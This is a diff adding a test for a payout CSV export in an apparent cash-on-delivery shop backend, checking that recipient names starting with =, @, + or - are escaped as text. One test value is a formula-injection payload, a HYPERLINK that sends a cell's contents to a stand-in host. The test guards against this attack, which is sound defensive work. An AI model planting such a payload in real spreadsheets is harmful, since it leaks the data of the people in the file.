@@ -417,6 +417,23 @@ describe.each(testDatabases())('cash on delivery on $name', (backend) => {
       }
     });
 
+    it('CSV: a recipient named like a formula (=HYPERLINK, @, +, -) is written as text, amounts stay numbers', async () => {
+      const who = await shop();
+      const names = ['=HYPERLINK("https://rau.example/?d="&A1;"Detalii")', '@SUM(1+1)', '+40 722 000 000', '-2+3'];
+      const placed = [];
+      for (const _ of names) placed.push(await delivered(who, { lei: 10, iban: roIban(52) }));
+      for (const [i, order] of placed.entries()) {
+        await h.db.update(repayments).set({ recipientName: names[i]! }).where(eq(repayments.orderId, order.orderId));
+      }
+      await batchPayouts(h.db);
+      const payoutId = (await repaymentsOf(placed[0]!.orderId))[0]!.payoutId!;
+      const csv = payoutCsv((await findPayout(h.db, who.customer.id, payoutId))!);
+      expect(csv).toContain(`;"'=HYPERLINK(""https://rau.example/?d=""&A1;""Detalii"")";`);
+      for (const name of names.slice(1)) expect(csv).toContain(`;'${name};`);
+      expect(csv).toContain(';10,00\r\n');
+      expect(csv).not.toMatch(/;[=+@-]/);
+    });
+
     it('downloads through the private API: the owner with a bearer or a signed link, nobody else', async () => {
       const who = await shop();
       const order = await delivered(who, { lei: 10, iban: roIban(52) });
